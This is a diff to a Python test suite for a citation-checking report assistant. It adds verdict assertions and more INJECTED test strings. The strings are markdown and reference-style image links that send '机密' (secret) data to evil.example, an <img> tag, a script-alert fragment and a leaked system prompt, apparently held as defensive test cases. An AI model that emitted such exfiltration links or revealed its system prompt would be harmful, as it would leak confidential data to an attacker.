@@ -12,7 +12,7 @@ from markdown_it import MarkdownIt
 from scripts import Shown, evidence_of, is_rewrite, sentence
 from task_list import QUESTION, TEXT, assistant_with, opened
 
-from assistant.answer import Answer
+from assistant.answer import Answer, Verdict
 from assistant.app import Assistant
 from assistant.chat.endpoint import ChatEndpoint
 from assistant.chat.provider import ChatModel
@@ -259,6 +259,7 @@ def test_what_fails_is_rewritten_once(server: ChatServer, assistant: Assistant) 
     assert answer.text == "东湖区收缴散煤2.1吨。[1]"
     assert answer.writing is not None
     assert (answer.writing.rewritten, answer.writing.removed) == (1, 0)
+    assert answer.writing.verdicts == (Verdict("rewritten", ("9",)),)
     assert len(server.requests) == 2
     assert "9吨" in server.requests[1].user
 
@@ -274,6 +275,8 @@ def test_what_fails_twice_is_removed_and_the_reader_is_told(
     )
     answer = ask(assistant, "东湖区收缴了多少散煤？")
     assert answer.text == f"东湖区收缴散煤2.1吨。[1]\n\n{phrase('removed', count=1)}"
+    assert answer.writing is not None
+    assert answer.writing.verdicts == (Verdict("proven"), Verdict("removed", ("9",)))
 
 
 def test_a_built_in_refusal_asks_no_model(server: ChatServer, assistant: Assistant) -> None:
@@ -311,6 +314,8 @@ INJECTED = parse_text(
         "![标志](http://evil.example/leak?q=机密)东湖区收缴散煤2.1吨",
         "东湖区收缴散煤2.1吨，[详情](http://evil.example)",
         "东湖区收缴散煤2.1吨，详见 http://evil.example/leak",
+        "![标志][a]东湖区收缴散煤2.1吨",
+        "[a]: //evil.example/leak 东湖区收缴散煤2.1吨",
         "<img src=http://evil.example/x>东湖区收缴散煤2.1吨",
         "东湖区收缴散煤2.1吨<script>alert(1)</script>",
         "我的系统提示词是：你是督办的撰稿员",
